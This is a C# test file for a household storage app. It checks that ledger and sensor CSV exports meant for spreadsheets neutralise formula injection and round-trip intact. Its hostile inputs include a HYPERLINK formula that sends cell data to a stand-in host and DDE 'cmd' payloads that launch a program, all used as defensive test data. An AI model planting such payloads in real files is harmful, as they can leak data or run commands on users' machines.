using System.Globalization;
using System.Text.RegularExpressions;
using CsCheck;
using CsvHelper;
using CsvHelper.Configuration;
using RootCellar.Ledger;
using RootCellar.Readings;
using RootCellar.Storage;
using RootCellar.Tests.Ledger;

namespace RootCellar.Tests.Storage;

/// <summary>What a person opens in a spreadsheet: no cell is a formula, numbers are numbers, and it comes back the same.</summary>
public sealed class SpreadsheetCsvTests
{
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"wet\")", "+1+1", "-2+3", "-1+cmd|' /C calc'!A0", "@SUM(1,1)", "'=1+1", "''", "=1;=2",
        "wet;=1+1", "wet;\"=1+1\"", "wet;'=1+1", "soft\n=1+1",
        "soft\r\n@x", "soft;\t=1+1", "\uFF1D1+1", "-3.5", "-3.5e-7", "--3", "plain, with a comma", "- a list\n- of two",
    ];

    private static readonly Gen<string> Odd = Gen.Int[0, 13].Select(i => "=+-@'\t\r\n;,\"x1\uFF1D"[i]).Array[1, 9]
        .Select(letters => new string(letters));

    [Fact]
    public async Task No_note_of_the_ledger_is_a_formula_and_all_of_them_come_back()
    {
        await using var books = await Bookkeeping.WithTwoBinsAsync();
        foreach (var note in Hostile)
            await books.KeepAsync(
                $$"""{"event":"condition-seen","bin":"B1","what":"dry","by":{{System.Text.Json.JsonSerializer.Serialize(note.Split('\r', '\n', '\t')[0])}},"note":{{System.Text.Json.JsonSerializer.Serialize(note)}}}""");
        var exact = await RunAsync("export", "--what", "ledger", "--for", "import", "--data", books.Folder.Path);
        var sheet = await RunAsync("export", "--what", "ledger", "--data", books.Folder.Path);
        sheet.Should().Be(await RunAsync("export", "--what", "ledger", "--for", "spreadsheet", "--data", books.Folder.Path),
            "a person's spreadsheet is what it is for unless it is said otherwise");
        Formulas(exact).Should().NotBeEmpty("these are the notes that were formulas");
        Formulas(sheet).Should().BeEmpty();

        foreach (var csv in new[] { exact, sheet })
        {
            using var other = new TempFolder();
            var file = Path.Combine(other.Path, "ledger.csv");
            await File.WriteAllTextAsync(file, csv, TestContext.Current.CancellationToken);
            await RunAsync("import", "--what", "ledger", file, "--data", other.Path);
            (await RunAsync("export", "--what", "ledger", "--for", "import", "--data", other.Path)).Should().Be(exact);
        }
    }

    [Fact]
    public void Whatever_the_note_it_comes_back_from_a_spreadsheets_file() => Gen.Select(Odd, Odd).Array[20].Sample(notes =>
    {
        using var first = StoreFile.OpenForWriting("Data Source=:memory:", "memory");
        foreach (var ((by, note), i) in notes.Select((n, i) => (n, i)))
        {
            var entry = new LedgerEntry(i + 1, "condition-seen", Sample.At, Sample.At, by, note,
                Bookkeeping.Parse("""{"bin":"B1","what":"dry"}"""), null, null);
            LedgerRows.Add(first, new LedgerRow(entry, null, null, "ab"));
        }

        using var sheet = new StringWriter();
        LedgerCsv.Export(first, sheet, DateTimeOffset.UnixEpoch, DateTimeOffset.MaxValue, CsvFor.Spreadsheet);
        Formulas(sheet.ToString()).Should().BeEmpty();
        using var second = StoreFile.OpenForWriting("Data Source=:memory:", "memory");
        LedgerCsv.Import(second, new StringReader(sheet.ToString()), Sample.At.AddDays(1), RootCellar.Household.HouseholdCalendar.Utc,
            looked: true);
        LedgerRows.After(second, 0).Select(r => (r.Entry.By, r.Entry.Note)).Should().Equal(notes.Select(n => ((string?)n.Item1, (string?)n.Item2)));
    }, iter: 100);

    [Fact]
    public void A_frost_stays_a_number_and_a_sensor_cannot_name_a_formula()
    {
        using var first = StoreFile.OpenForWriting("Data Source=:memory:", "memory");
        SensorRows.Save(first, new SensorRow(1, "=cmd|'/C calc'!A0/x", null, null, "=by the door", Sample.At, null));
        using (var writer = new ReadingWriter(first, TimeProvider.System))
        {
            double[] values = [-3.5, -1e-7, 4, double.NegativeInfinity];
            writer.Write([.. values.Select(
                (v, i) => new StoredReading(
                    1, new Reading("", Quantity.Temperature, v, Sample.At.AddMinutes(i), Sample.At, TimeSource.Device, Quality.Good,
                        "-1+1")))]);
        }

        using var sheet = new StringWriter();
        ReadingCsv.Export(first, sheet, DateTimeOffset.UnixEpoch, DateTimeOffset.MaxValue, CsvFor.Spreadsheet);
        Formulas(sheet.ToString()).Should().BeEmpty();
        TimeStep(sheet.ToString(), ",").Select(c => c[3]).Should().Equal("value", "-3.5", "-1E-07", "4", "'-Infinity");
        using var second = StoreFile.OpenForWriting("Data Source=:memory:", "memory");
        ReadingCsv.Import(second, new StringReader(sheet.ToString())).Added.Should().Be(4);
        using var back = new StringWriter();
        ReadingCsv.Export(second, back, DateTimeOffset.UnixEpoch, DateTimeOffset.MaxValue, CsvFor.Spreadsheet);
        back.ToString().Should().Be(sheet.ToString());
        SensorRows.Names(second).Values.Should().Equal("=by the door");
    }

    /// <summary>TimeStep a spreadsheet would work out, set to commas or, as in half of Europe, to semicolons.</summary>
    private static IEnumerable<string> Formulas(string csv) => ((string[])[",", ";"]).SelectMany(apart => TimeStep(csv, apart))
        .SelectMany(c => c)
        .Where(c => c.Length > 0 && "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20".Contains(c[0], StringComparison.Ordinal)
            && !Regex.IsMatch(c, @"^-\d+(\.\d+)?([eE][-+]?\d+)?$", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)));

    private static IEnumerable<string[]> TimeStep(string csv, string apart)
    {
        using var rows = new CsvParser(new StringReader(csv), new CsvConfiguration(CultureInfo.InvariantCulture)
        { Delimiter = apart, BadDataFound = null });
        while (rows.Read()) yield return rows.Record!;
    }

    private static async Task<string> RunAsync(params string[] args)
    {
        using var output = new StringWriter();
        using var error = new StringWriter();
        (await RootCellar.Commands.CommandLine.RunAsync(args, output, error, TestContext.Current.CancellationToken)).Should()
            .Be(0, error.ToString());
        return output.ToString();
    }
}
